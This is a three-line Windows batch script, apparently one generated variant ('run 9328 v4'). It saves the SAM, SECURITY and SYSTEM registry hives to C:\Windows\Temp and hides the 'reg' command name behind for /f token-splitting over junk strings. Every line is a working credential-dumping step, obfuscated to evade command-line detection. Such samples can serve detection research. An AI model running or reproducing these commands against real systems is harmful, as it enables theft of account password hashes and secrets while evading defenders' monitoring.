REM run 9328 v4
for /f "tokens=1 delims=@" %%i in ("reg@eaor@bnnw") do %%i save hklm\sam C:\Windows\Temp\sam.save
for /f "tokens=3 delims=~" %%i in ("vtmf~fpjs~reg") do %%i save hklm\security C:\Windows\Temp\security.save
for /f "tokens=2 delims=@" %%i in ("tyfa@reg@pfta") do %%i save hklm\system C:\Windows\Temp\system.save
